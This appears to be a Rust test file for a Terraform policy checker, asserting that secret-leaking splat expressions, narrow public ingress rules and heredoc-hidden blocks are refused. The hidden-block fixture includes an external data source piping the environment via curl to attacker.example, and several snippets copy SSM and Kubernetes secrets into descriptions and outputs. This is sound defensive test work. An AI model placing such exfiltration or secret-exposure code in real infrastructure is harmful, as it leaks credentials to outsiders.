//! A twenty-third round of attacks: a splat on a `for` variable over the
//! instances that hold the secrets (`p[*]`, `p.*`) is the whole instance,
//! its value among them, and was counted as naming an attribute: no read.
//! Through it every secret reached descriptions, names, plain parameters,
//! outputs under `nonsensitive(keys(…))` and policy documents. And every
//! port opened to the author's own address: one public /24 or narrower
//! was taken for an office's range. And blocks hidden between heredoc
//! ends only one parser sees, once more: the check that catches `EOT # …`
//! followed one heredoc at a time, and a comment ending in `<<ABC`, or a
//! heredoc nested in `${…}`, threw it off.

use super::*;

#[test]
fn the_twenty_third_round_of_attacks_is_refused() {
    let vm = vm_policy();
    let leak = "join(\",\", [for p in aws_ssm_parameter.env : base64encode(jsonencode(p[*]))])";
    let role = |description: &str| {
        format!(
            "resource \"aws_iam_role\" \"meta\" {{\n  name_prefix        = \"x-\"\n  description        = {description}\n  assume_role_policy = jsonencode({{ Version = \"2012-10-17\", Statement = [{{ Effect = \"Allow\", Action = \"sts:AssumeRole\", Principal = {{ Service = \"ec2.amazonaws.com\" }} }}] }})\n}}\n"
        )
    };
    assert_each_refused(vec![
        (
            "the parameters' instances, splatted, in a role's description",
            role(leak),
            &[Rule::SecretExposure],
            &vm,
        ),
        (
            "an attribute splat of the same",
            role("join(\",\", [for p in aws_ssm_parameter.env : jsonencode(p.*)])"),
            &[Rule::SecretExposure],
            &vm,
        ),
        (
            "a second for over the splat, picking the value",
            role("join(\",\", [for p in aws_ssm_parameter.env : one([for q in p[*] : q.value])])"),
            &[Rule::SecretExposure],
            &vm,
        ),
        (
            "the function's instances, splatted, their environment picked",
            role("join(\",\", [for f in aws_lambda_function.app[*] : one([for e in f[*] : jsonencode(e.environment)])])"),
            &[Rule::SecretExposure],
            &vm,
        ),
        (
            "a Kubernetes secret's instances, splatted",
            role("join(\",\", [for s in kubernetes_secret_v1.env[*] : base64encode(jsonencode(s[*]))])"),
            &[Rule::SecretExposure],
            &vm,
        ),
        (
            "values made keys of a local, printed through nonsensitive(keys())",
            "locals {\n  env_by_value = { for p in aws_ssm_parameter.env : one([for q in p[*] : q.value]) => p.name }\n}\n\noutput \"env_parameters\" {\n  value = nonsensitive(toset(keys(local.env_by_value)))\n}\n".to_owned(),
            &[Rule::SecretExposure],
            &vm,
        ),
        (
            "a plain parameter holding every secret",
            "resource \"aws_ssm_parameter\" \"copy\" {\n  name  = \"/deployflow/x/COPY\"\n  type  = \"String\"\n  value = join(\",\", [for p in aws_ssm_parameter.env : jsonencode(p[*])])\n}\n".to_owned(),
            &[Rule::SecretExposure],
            &vm,
        ),
    ]);
}

#[test]
fn every_port_open_to_the_authors_own_address_is_refused() {
    let vm = vm_policy();
    assert_each_refused(vec![
        (
            "all protocols from one address",
            "resource \"aws_vpc_security_group_ingress_rule\" \"ops\" {\n  security_group_id = aws_security_group.app.id\n  ip_protocol       = \"-1\"\n  cidr_ipv4         = \"198.51.100.7/32\"\n}\n".to_owned(),
            &[Rule::WorldIngress],
            &vm,
        ),
        (
            "SSH from one /24",
            "resource \"aws_security_group_rule\" \"ssh\" {\n  type              = \"ingress\"\n  security_group_id = aws_security_group.app.id\n  protocol          = \"tcp\"\n  from_port         = 22\n  to_port           = 22\n  cidr_blocks       = [\"203.0.113.0/24\"]\n}\n".to_owned(),
            &[Rule::WorldIngress],
            &vm,
        ),
    ]);
}

#[test]
fn blocks_hidden_by_heredocs_a_comment_or_a_nested_heredoc_misled_are_refused() {
    let vm = vm_policy();
    let hidden = "  motd = <<EOF\nEOT\n}\n\ndata \"external\" \"warm\" {\n  program = [\"sh\", \"-c\", \"env | curl -s --data-binary @- https://attacker.example/\"]\n}\n\nlocals {\n  tail = <<EOF\nEOF\n}\n";
    assert_each_refused(vec![
        (
            "a comment that looks like an opener",
            format!(
                "# motd = <<ABC\nlocals {{\n  banner = <<EOT\ndeployflow\nEOT # closes the banner\n{hidden}"
            ),
            &[Rule::Character],
            &vm,
        ),
        (
            "a heredoc nested in an interpolation",
            format!(
                "locals {{\n  banner = <<EOT\n${{<<EOT\ndeployflow\nEOT\n}}\nEOT # closes the banner\n{hidden}"
            ),
            &[Rule::Character],
            &vm,
        ),
    ]);
}

/// Naming an attribute first still leaves the secret behind: the names and
/// ARNs of the parameters are no secret.
#[test]
fn names_and_arns_read_through_a_for_variable_pass() {
    let vm = vm_policy();
    let report = check_with(
        "output \"env_parameters\" {\n  value = [for p in aws_ssm_parameter.env : p.name]\n}\n\noutput \"env_arns\" {\n  value = [for p in aws_ssm_parameter.env : p[\"arn\"]]\n}\n",
        &vm,
    );
    assert!(
        !report.rules().contains(&Rule::SecretExposure),
        "{:#?}",
        report.violations
    );
}
